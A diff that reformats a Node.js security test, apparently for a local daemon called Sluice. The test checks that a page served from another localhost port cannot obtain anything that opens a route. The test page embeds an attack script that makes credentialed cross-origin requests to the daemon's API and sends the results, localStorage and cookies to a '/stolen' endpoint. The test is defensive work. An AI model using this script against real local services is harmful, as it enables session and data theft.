@@ -1,5 +1,5 @@
-// Another user of the machine serves pages on other ports of 127.0.0.1, or takes the port of a daemon that was killed. A real
-// browser with a real daemon: nothing that such a server is sent opens a route. SLUICE_BIN names the program.
+// Another user of the machine serves pages on other ports of 127.0.0.1, or takes the port of a daemon that was killed.
+// A real browser with a real daemon: nothing that such a server is sent opens a route. SLUICE_BIN names the program.
 import assert from 'node:assert/strict';
 import { execFile, spawn } from 'node:child_process';
 import { mkdtemp, readFile, rm } from 'node:fs/promises';
@@ -148,10 +148,16 @@ test('a server on another port gets nothing that opens a route', { skip, timeout
   // The other user's page is opened, and asks the daemon for things in the name of the visitor.
   const attack = `<!doctype html><iframe src="${daemon.url}/api/v1/info"></iframe><script>
     document.title = 'busy';
-    const ask = (path, init) => fetch('${daemon.url}/api/v1' + path, { credentials: 'include', ...init }).then((r) => r.status, () => 0);
-    Promise.all([ask('/info'), ask('/info', { mode: 'no-cors' }), ask('/login-links', { method: 'POST', mode: 'no-cors' }),
-      ask('/experiments', { method: 'POST', headers: { 'X-Sluice-Session': 'x' } })])
-      .then((got) => fetch('/stolen?' + got + '&' + JSON.stringify({ ...localStorage }) + document.cookie)).then(() => { document.title = 'done'; });
+    const ask = (path, init) =>
+      fetch('${daemon.url}/api/v1' + path, { credentials: 'include', ...init }).then((r) => r.status, () => 0);
+    Promise.all([
+      ask('/info'),
+      ask('/info', { mode: 'no-cors' }),
+      ask('/login-links', { method: 'POST', mode: 'no-cors' }),
+      ask('/experiments', { method: 'POST', headers: { 'X-Sluice-Session': 'x' } }),
+    ])
+      .then((got) => fetch('/stolen?' + got + '&' + JSON.stringify({ ...localStorage }) + document.cookie))
+      .then(() => { document.title = 'done'; });
   </script>`;
   const other = await squat(0, (_request, response) =>
     response.writeHead(200, { 'Content-Type': 'text/html' }).end(attack),
